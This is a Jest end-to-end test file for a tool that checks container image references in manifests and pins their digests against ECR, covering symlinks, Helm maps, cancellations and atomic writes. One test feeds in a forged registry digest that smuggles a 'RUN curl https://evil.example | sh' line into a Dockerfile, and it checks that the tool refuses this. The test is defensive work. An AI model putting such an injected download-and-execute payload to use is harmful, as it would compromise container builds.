// End to end: a writer that checks everything it writes. files and pin through the bundle, against
// links, aliases, block scalars, Helm maps of every shape, hostile answers, races, cancels, failed
// renames and bytes that are not UTF-8.
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import { execFileSync } from 'node:child_process'
import {
  chmodSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  readlinkSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parseAllDocuments } from 'yaml'
import { dockerManifest, sha256Digest } from '../../testkit/manifests.js'
import { NODES, useHarness } from './harness.js'

const R = '123456789012.dkr.ecr.eu-west-1.amazonaws.com'
const OLD = `sha256:${'0'.repeat(64)}`

describe.each(NODES)('a writer that checks what it writes, on $label', ({ path }) => {
  const h = useHarness(path)
  let workspace = ''
  let outside = ''
  beforeEach(() => {
    workspace = mkdtempSync(join(tmpdir(), 'workspace-'))
    outside = mkdtempSync(join(tmpdir(), 'outside-'))
  })
  afterEach(() => {
    rmSync(workspace, { recursive: true, force: true })
    rmSync(outside, { recursive: true, force: true })
  })
  const run = (inputs: Record<string, string>, options?: Parameters<typeof h.run>[3]) =>
    h.run(inputs, { GITHUB_WORKSPACE: workspace }, true, options)
  const write = (file: string, text: string | Buffer, root = workspace): void => {
    mkdirSync(join(root, file, '..'), { recursive: true })
    writeFileSync(join(root, file), text)
  }
  const read = (file: string, root = workspace): string => readFileSync(join(root, file), 'utf8')
  /** Every file under the workspace, temporary files included. */
  const tree = (): string[] => (readdirSync(workspace, { recursive: true }) as string[]).sort()
  const temporaries = (): string[] => tree().filter((name) => name.includes('.ecr-pin-'))

  describe('nothing outside the workspace', () => {
    it('skips and names links that lead out, at any depth and at the start of a ** glob, and writes nothing there', async () => {
      const secret = `image: ${R}/app:v1\n`
      write('secret.yaml', secret, outside)
      write('prod/deep.yaml', secret, outside)
      symlinkSync(outside, join(workspace, 'k8s'))
      mkdirSync(join(workspace, 'env'))
      symlinkSync(join(outside, 'prod'), join(workspace, 'env', 'prod'))
      symlinkSync(outside, join(workspace, 'deploy'))
      symlinkSync(join(outside, 'secret.yaml'), join(workspace, 'file.yaml'))
      write('app.yaml', `image: ${R}/app:v1\n`)
      const result = await run({ files: 'k8s/*.yaml\nenv/prod/*.yaml\ndeploy/**/*.yaml\n*.yaml', pin: 'true' })
      expect(result.code).toBe(0)
      expect(result.warnings.sort()).toEqual([
        expect.stringMatching(
          /^::warning title=File not scanned::files: deploy is a link that leads out of the workspace \(.*\); it is not scanned\.$/
        ),
        expect.stringMatching(/^::warning title=File not scanned::files: env\/prod is a link that leads out of the workspace/),
        expect.stringMatching(/^::warning title=File not scanned::files: file\.yaml is a link that leads out of the workspace/),
        expect.stringMatching(/^::warning title=File not scanned::files: k8s is a link that leads out of the workspace/)
      ])
      expect(result.outputs['pinned-files']).toBe('app.yaml')
      expect(read('secret.yaml', outside)).toBe(secret)
      expect(read('prod/deep.yaml', outside)).toBe(secret)
      expect(h.fake.requestsFor()[0]?.body.imageIds).toEqual([{ imageTag: 'v1' }])
    })

    it('fails, naming the link, when every file the globs name is outside', async () => {
      write('secret.yaml', `image: ${R}/app:v1\n`, outside)
      symlinkSync(outside, join(workspace, 'k8s'))
      const result = await run({ files: 'k8s/*.yaml' })
      expect(result.code).toBe(1)
      expect(result.errors).toEqual([
        expect.stringMatching(
          /^::error::files: no file in the workspace .* matches k8s\/\*\.yaml\. Not scanned: k8s is a link that leads out of the workspace/
        )
      ])
      expect(h.fake.requestsFor()).toHaveLength(0)
    })

    it('keeps a link inside the workspace a link, and pins the file it leads to once', async () => {
      write('base/app.yaml', `image: ${R}/app:v1\n`)
      mkdirSync(join(workspace, 'k8s'))
      symlinkSync('../base/app.yaml', join(workspace, 'k8s', 'app.yaml'))
      const result = await run({ files: 'k8s/*.yaml\nbase/*.yaml', pin: 'true' })
      expect(result.code).toBe(0)
      expect(result.outputs['pinned-files']).toBe('base/app.yaml')
      expect(lstatSync(join(workspace, 'k8s', 'app.yaml')).isSymbolicLink()).toBe(true)
      expect(readlinkSync(join(workspace, 'k8s', 'app.yaml'))).toBe('../base/app.yaml')
      expect(read('base/app.yaml')).toBe(`image: ${R}/app:v1@${h.digests.v1}\n`)
    })
  })

  describe('every reference checked or named', () => {
    it('looks up an alias as its anchor: a missing image fails at the anchor line', async () => {
      write('compose.yaml', `x-image: &api ${R}/app:gone\nservices:\n  web:\n    image: *api\n`)
      const result = await run({ files: 'compose.yaml' })
      expect(result.code).toBe(1)
      expect(result.errors).toEqual([
        `::error title=Image ImageNotFound,file=compose.yaml,line=1::${R}/app:gone (compose.yaml:1): ImageNotFound: Requested image not found`
      ])
    })

    it('pins a stale digest in a block scalar and a Helm flow map in place, where it was never "already pinned"', async () => {
      write('a.yaml', `a:\n  image: >-\n    ${R}/app:v1@${OLD}\nb:\n  image: {repository: ${R}/team/api, tag: v1.4.2}\n`)
      const checked = await run({ files: 'a.yaml' })
      expect(checked.code).toBe(1)
      expect(checked.errors).toEqual([expect.stringMatching(/^::error title=Image ImageTagDoesNotMatchDigest,file=a\.yaml,line=3::/)])
      const pinned = await run({ files: 'a.yaml', pin: 'true' })
      expect(pinned.code).toBe(0)
      expect(read('a.yaml')).toBe(
        `a:\n  image: >-\n    ${R}/app:v1@${h.digests.v1}\nb:\n  image: {repository: ${R}/team/api, tag: v1.4.2, digest: ${h.digests.api}}\n`
      )
      expect(pinned.stdout).toContain(`Pinned a.yaml:3: ${R}/app:v1@${OLD} → ${R}/app:v1@${h.digests.v1}`)
    })

    it('names a reference it cannot pin in place at its line, as an error under pin, and writes nothing', async () => {
      write('a.yaml', `a:\n  image: ${R}/app:v1\nb:\n  image: "${R}/app:v\\x31"\n`)
      const checked = await run({ files: 'a.yaml' })
      expect(checked.code).toBe(0)
      const pinned = await run({ files: 'a.yaml', pin: 'true' })
      expect(pinned.code).toBe(1)
      expect(pinned.errors).toEqual([
        `::error title=Image reference cannot be pinned,file=a.yaml,line=4::${R}/app:v1 cannot be pinned in place: it is written with escapes or across lines. It is looked up, but pin cannot write its digest.`,
        expect.stringMatching(
          /^::error::pin: 1 reference\(s\) cannot be pinned in place \(see the errors at their lines\), so no file was written;/
        )
      ])
      expect(pinned.outputs['pinned-files']).toBe('')
      expect(read('a.yaml')).toBe(`a:\n  image: ${R}/app:v1\nb:\n  image: "${R}/app:v\\x31"\n`)
    })

    it('has nothing to check when every reference is templated, and follows if-no-files-found', async () => {
      write('a.yaml', `image: ${R}/app:\${TAG}\n`)
      const failed = await run({ files: 'a.yaml' })
      expect(failed.code).toBe(1)
      expect(failed.errors).toEqual([
        expect.stringMatching(
          /^::error::files: 1 file\(s\) matched, but no image reference in them can be looked up in ECR \(1 reference\(s\): 0 in other registries, 1 templated\)/
        )
      ])
      const warned = await run({ files: 'a.yaml', 'if-no-files-found': 'warn' })
      expect(warned.code).toBe(0)
      expect(warned.warnings).toEqual([expect.stringContaining('no image reference in them can be looked up in ECR')])
    })
  })

  describe('Helm as Helm reads it', () => {
    it('puts the digest key inside its own map whatever its last key holds, keeping the file valid YAML; a rerun changes nothing', async () => {
      const values = [
        `list:\n  image:\n    repository: ${R}/app\n    tag: v1\n    pullSecrets:\n      - name: a\n      - name: b\n`,
        `map:\n  image:\n    repository: ${R}/app\n    tag: v1\n    resources:\n      limits:\n        cpu: 1\n`,
        `block:\n  image:\n    repository: ${R}/app\n    tag: v1\n    note: |\n      two\n      lines\n`,
        `empty:\n  image:\n    repository: ${R}/app\n    tag: v1\n    digest:\n`,
        `crlf:\r\n  image:\r\n    repository: ${R}/app\r\n    tag: v1\r\n    pullPolicy: Always\r\n`
      ].join('')
      write('values.yaml', values)
      const result = await run({ files: 'values.yaml', pin: 'true' })
      expect(result.code).toBe(0)
      const pinned = read('values.yaml')
      const documents = parseAllDocuments(pinned)
      expect(Array.isArray(documents) && documents.every((document) => document.errors.length === 0)).toBe(true)
      const parsed = (Array.isArray(documents) ? documents[0]?.toJS() : {}) as Record<string, { image: Record<string, unknown> }>
      for (const key of ['list', 'map', 'block', 'empty', 'crlf']) expect(parsed[key]?.image.digest).toBe(h.digests.v1)
      expect(pinned).toContain(`    tag: v1\n    digest: ${h.digests.v1}\n    pullSecrets:\n`)
      expect(pinned).toContain(`    digest: ${h.digests.v1}\ncrlf:`)
      expect(pinned).toContain(`    tag: v1\r\n    digest: ${h.digests.v1}\r\n    pullPolicy: Always\r\n`)
      const again = await run({ files: 'values.yaml', pin: 'true' })
      expect(again.outputs['pinned-files']).toBe('')
      expect(read('values.yaml')).toBe(pinned)
    })

    it('reads a missing tag from the Chart.yaml beside the values file, and adds only the digest', async () => {
      h.fake.putImage({ repository: 'app', tags: ['1.10'], manifest: dockerManifest('app-1.10') })
      write('chart/Chart.yaml', 'apiVersion: v2\nname: app\nversion: 0.1.0\nappVersion: "1.10"\n')
      write('chart/values.yaml', `image:\n  repository: ${R}/app\n  tag: ""\n  pullPolicy: IfNotPresent\n`)
      const result = await run({ files: 'chart/values.yaml', pin: 'true' })
      expect(result.code).toBe(0)
      expect(h.fake.requestsFor()[0]?.body.imageIds).toEqual([{ imageTag: '1.10' }])
      expect(read('chart/values.yaml')).toBe(
        `image:\n  repository: ${R}/app\n  tag: ""\n  digest: ${sha256Digest(dockerManifest('app-1.10'))}\n  pullPolicy: IfNotPresent\n`
      )
    })

    it("leaves a Helm map without a tag and without a Chart.yaml as written, with a notice that the chart's appVersion decides", async () => {
      const values = `a:\n  image:\n    repository: ${R}/app\n    tag: ""\nb:\n  image:\n    repository: ${R}/app\n    tag: v1\n`
      write('values.yaml', values)
      const result = await run({ files: 'values.yaml', pin: 'true' })
      expect(result.code).toBe(0)
      expect(result.stdout).toContain(
        `::notice title=Image tag decided by the chart,file=values.yaml,line=3::${R}/app has no tag: the chart's appVersion decides`
      )
      expect(h.fake.requestsFor()[0]?.body.imageIds).toEqual([{ imageTag: 'v1' }])
      expect(read('values.yaml')).toBe(values.replace('    tag: v1\n', `    tag: v1\n    digest: ${h.digests.v1}\n`))
    })
  })

  describe('read as the tools that use the files read them', () => {
    it("follows an aliased Helm tag (never the chart's appVersion), and refuses before any call an appVersion Helm reads as a number", async () => {
      write('chart/Chart.yaml', 'appVersion: v2-oci\n')
      write('chart/values.yaml', `tags:\n  current: &t v1\nimage:\n  repository: ${R}/app\n  tag: *t\n`)
      write('other/Chart.yaml', 'appVersion: 1.10\n')
      write('other/values.yaml', `image:\n  repository: ${R}/app\n`)
      const refused = await run({ files: '*/values.yaml', pin: 'true' })
      expect(refused.code).toBe(1)
      expect(refused.errors).toEqual([
        `::error::files: 1 image reference(s) cannot be read exactly, so nothing was looked up: other/values.yaml:2: ${R}/app: it has no tag, and the chart's other/Chart.yaml: Helm reads its appVersion 1.10 as 1.1; quote it ("1.10").`
      ])
      expect(h.fake.requestsFor()).toHaveLength(0)
      write('other/Chart.yaml', 'appVersion: "v1"\n')
      const fixed = await run({ files: '*/values.yaml', pin: 'true' })
      expect(fixed.code).toBe(0)
      expect(h.fake.requestsFor()[0]?.body.imageIds).toEqual([{ imageTag: 'v1' }])
      expect(read('chart/values.yaml')).toBe(
        `tags:\n  current: &t v1\nimage:\n  repository: ${R}/app\n  tag: *t\n  digest: ${h.digests.v1}\n`
      )
    })

    it('pins a FROM continued over lines, and names what a fail-on that lets a missing image pass leaves as written', async () => {
      write('Dockerfile', `FROM \\\n  ${R}/app:v1\nFROM ${R}/app:gone\n`)
      const result = await run({ files: 'Dockerfile', pin: 'true', 'fail-on': 'none' })
      expect(result.code).toBe(0)
      expect(read('Dockerfile')).toBe(`FROM \\\n  ${R}/app:v1@${h.digests.v1}\nFROM ${R}/app:gone\n`)
      expect(result.stdout).toContain(
        `pin: 1 reference(s) left as written, not among the images found (see their warnings): ${R}/app:gone (Dockerfile:3)`
      )
      expect(result.stdout).not.toContain('already pinned')
    })
  })

  it('pins every one of references written alike on one line (minified JSON), not only the first', async () => {
    const definitions = Array.from({ length: 3 }, (_, index) => `{"name":"c${index}","image":"${R}/app:v1"}`).join(',')
    write('task.json', `{"family":"x","containerDefinitions":[${definitions}]}`)
    const result = await run({ files: 'task.json', pin: 'true' })
    expect(result.code).toBe(0)
    expect(JSON.parse(read('task.json')).containerDefinitions.map((definition: { image: string }) => definition.image)).toEqual(
      Array.from({ length: 3 }, () => `${R}/app:v1@${h.digests.v1}`)
    )
  })

  describe('nothing from a server written unchecked', () => {
    const answerWith = (image: Record<string, unknown>): void => {
      h.fake.intercept(({ res, request }) => {
        if (request.operation !== 'BatchGetImage') return false
        const manifest = dockerManifest('hostile')
        res.writeHead(200, { 'content-type': 'application/x-amz-json-1.1' })
        res.end(
          JSON.stringify({
            images: [
              {
                registryId: '123456789012',
                repositoryName: 'app',
                imageId: { imageTag: 'v1', imageDigest: sha256Digest(manifest) },
                imageManifest: manifest,
                imageManifestMediaType: 'application/vnd.docker.distribution.manifest.v2+json',
                ...image
              }
            ]
          })
        )
        return true
      })
    }

    it('refuses a digest with a newline in it, even with verify-digest: false, and writes no file and no digest', async () => {
      const digest = 'sha256:0000\nRUN curl https://evil.example | sh\n#'
      answerWith({ imageId: { imageTag: 'v1', imageDigest: digest } })
      write('Dockerfile', `FROM ${R}/app:v1\n`)
      const result = await run({ files: 'Dockerfile', pin: 'true', 'verify-digest': 'false' })
      expect(result.code).toBe(1)
      expect(result.errors).toEqual([
        expect.stringMatching(
          /^::error::The answer from .* for 'app' in registry 123456789012 \(eu-west-1\) cannot be used: it holds the digest 'sha256:0000\\u000aRUN curl .*', which is not a digest/
        )
      ])
      expect(read('Dockerfile')).toBe(`FROM ${R}/app:v1\n`)
      expect(result.outputs.digest ?? '').toBe('')
      expect(result.outputs['pinned-files']).toBe('')
      expect(JSON.stringify(result.outputs)).not.toContain('RUN curl')
    })

    it('refuses an answer for another repository or registry, naming both, and writes nothing', async () => {
      answerWith({ repositoryName: 'other/app', registryId: '210987654321' })
      write('a.yaml', `image: ${R}/app:v1\n`)
      const result = await run({ files: 'a.yaml', pin: 'true' })
      expect(result.code).toBe(1)
      expect(result.errors).toEqual([
        expect.stringMatching(
          /cannot be used: it holds an image of repository 'other\/app' in registry 210987654321, not of 'app' in registry 123456789012 as asked, so nothing from it was written\./
        )
      ])
      expect(read('a.yaml')).toBe(`image: ${R}/app:v1\n`)
      expect(result.outputs['pinned-files']).toBe('')
    })
  })

  it('does not write a file edited while the lookup waited, and names it', async () => {
    write('a.yaml', `image: ${R}/app:later\n`)
    write('b.yaml', `image: ${R}/app:v1\n`)
    const pending = run({ files: '*.yaml', pin: 'true', 'wait-timeout': '60s', 'wait-interval': '1s' })
    while (h.fake.requestsFor().length === 0) await new Promise((resolve) => setTimeout(resolve, 20))
    write('a.yaml', `# edited by someone else\nimage: ${R}/app:later\n`)
    h.fake.putImage({ repository: 'app', tags: ['later'], manifest: dockerManifest('app-later') })
    const result = await pending
    expect(result.code).toBe(1)
    expect(result.errors).toEqual([
      '::error::pin: a.yaml changed while the images were looked up, so no file was written; rerun the job to pin what is there now.'
    ])
    expect(read('a.yaml')).toBe(`# edited by someone else\nimage: ${R}/app:later\n`)
    expect(read('b.yaml')).toBe(`image: ${R}/app:v1\n`)
    expect(result.outputs['pinned-files']).toBe('')
    expect(temporaries()).toEqual([])
  })

  describe('all or nothing', () => {
    const FILES = 3000
    const original = (index: number): string => `# file ${index}\nimage: ${R}/app:v1\n`
    const writeFleet = (): void => {
      for (let index = 0; index < FILES; index++) write(`fleet/f${index}.yaml`, original(index))
    }

    it('removes every staged file and changes none when the runner cancels (SIGTERM) while 3,000 files are staged', async () => {
      writeFleet()
      const result = await run(
        { files: 'fleet/*.yaml', pin: 'true' },
        { signalOn: { stdout: /pin: staging 3000 file\(s\)/, signal: 'SIGTERM' }, timeoutMs: 120_000 }
      )
      expect(result.signal).toBeNull()
      expect(result.code).toBe(1)
      expect(result.errors).toEqual([
        '::error::pin: the run was cancelled (SIGTERM) while the files were being staged: every staged file was removed and no file was changed.'
      ])
      expect(temporaries()).toEqual([])
      for (let index = 0; index < FILES; index++) expect(read(`fleet/f${index}.yaml`)).toBe(original(index))
      expect(result.outputs['pinned-files']).toBe('')
      expect(result.outputs.found).toBe('true')
    })

    it('finishes renaming 3,000 files when the runner cancels (SIGINT) during the renames, and lists every one', async () => {
      writeFleet()
      const result = await run(
        { files: 'fleet/*.yaml', pin: 'true' },
        { signalOn: { stdout: /pin: replacing 3000 file\(s\)/, signal: 'SIGINT' }, timeoutMs: 120_000 }
      )
      expect(result.signal).toBeNull()
      expect(result.code).toBe(1)
      expect(result.errors).toEqual([
        '::error::The run was cancelled (SIGINT) once the pinned files were being renamed: the renaming finished first, so pinned-files lists every file pinned; the commit status and promotion were not done.'
      ])
      expect(result.stdout).toContain('pin: the run was cancelled (SIGINT) while the files were renamed; the renaming finished first.')
      expect(temporaries()).toEqual([])
      for (let index = 0; index < FILES; index++)
        expect(read(`fleet/f${index}.yaml`)).toBe(original(index).replace('v1\n', `v1@${h.digests.v1}\n`))
      expect(result.outputs['pinned-files']?.split('\n')).toHaveLength(FILES)
    })

    it('puts every file back when a rename fails (EPERM), names the file and the cause, and leaves no temporary file', async () => {
      write('a.yaml', `image: ${R}/app:v1\n`)
      write('b.yaml', `image: ${R}/app:v1\n`)
      // An immutable file cannot be replaced, even by root: the rename over it fails with EPERM.
      execFileSync('chattr', ['+i', join(workspace, 'b.yaml')])
      try {
        const result = await run({ files: '*.yaml', pin: 'true' })
        expect(result.code).toBe(1)
        expect(result.errors).toEqual([
          '::error::pin: could not replace b.yaml: the operation is not permitted (the file may be immutable or locked) (EPERM). Every file is as it was.'
        ])
        expect(read('a.yaml')).toBe(`image: ${R}/app:v1\n`)
        expect(read('b.yaml')).toBe(`image: ${R}/app:v1\n`)
        expect(temporaries()).toEqual([])
        expect(result.outputs['pinned-files']).toBe('')
      } finally {
        execFileSync('chattr', ['-i', join(workspace, 'b.yaml')])
      }
    })
  })

  it('keeps every byte outside the references: Latin-1, a BOM, CRLF, tabs, trailing spaces, no final newline, the mode', async () => {
    const latin1 = Buffer.concat([Buffer.from('# caf'), Buffer.from([0xe9]), Buffer.from(`\t \r\nimage: ${R}/app:v1`)])
    const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`# naïve  \r\nimage: "${R}/app:v1"\t\r\n`)])
    write('latin1.yaml', latin1)
    write('bom.yaml', bom)
    chmodSync(join(workspace, 'latin1.yaml'), 0o750)
    const result = await run({ files: '*.yaml', pin: 'true' })
    expect(result.code).toBe(0)
    expect(readFileSync(join(workspace, 'latin1.yaml'))).toEqual(Buffer.concat([latin1, Buffer.from(`@${h.digests.v1}`)]))
    expect(readFileSync(join(workspace, 'bom.yaml'))).toEqual(
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`# naïve  \r\nimage: "${R}/app:v1@${h.digests.v1}"\t\r\n`)])
    )
    expect(statSync(join(workspace, 'latin1.yaml')).mode & 0o777).toBe(0o750)
  })

  it("keeps the whole summary within GitHub's 1 MiB when 5,000 files with 2 references each are pinned, every table saying where the rest is", async () => {
    for (let index = 0; index < 5000; index++)
      write(`many/service-${index}.yaml`, `a:\n  image: ${R}/app:v1\nb:\n  image: ${R}/team/api:v1.4.2\n`)
    const result = await run({ files: 'many/*.yaml', pin: 'true' }, { timeoutMs: 120_000 })
    expect(result.code).toBe(0)
    expect(result.outputs['pinned-files']?.split('\n')).toHaveLength(5000)
    expect(Buffer.byteLength(result.summary)).toBeLessThanOrEqual(1_000_000)
    expect(result.summary.split('\n')[2]).toBe('**10000 of 10000 images found\\.**')
    expect(result.summary).toMatch(
      /\nThe table stops after \d+ of 10000 images to stay within GitHub's 1 MiB for a summary: every image is in the log/
    )
    expect(result.summary).toContain('#### Pinned 10000 reference(s) in 5000 file(s)')
    expect(result.summary).toMatch(
      /\nThe pin table stops after [1-9]\d+ of 10000 references: every change is in the log, and the files written are listed in pinned-files\.\n/
    )
  })

  it('writes no file when the gate fails, says so, and names each failing reference with its file and line', async () => {
    write('a.yaml', `a:\n  image: ${R}/app:v1\nb:\n  image: ${R}/app:gone\n`)
    write('b.yaml', `image: ${R}/app:gone\n`)
    const result = await run({ files: '*.yaml', pin: 'true' })
    expect(result.code).toBe(1)
    expect(result.stdout).toContain('pin: the gate did not pass, so no file was written.')
    expect(result.stdout).toContain(`2 of 3 images failed the gate: ${R}/app:gone (a.yaml:4), ${R}/app:gone (b.yaml:1)`)
    expect(read('a.yaml')).toBe(`a:\n  image: ${R}/app:v1\nb:\n  image: ${R}/app:gone\n`)
    expect(result.outputs['pinned-files']).toBe('')
    expect(temporaries()).toEqual([])
  })
})
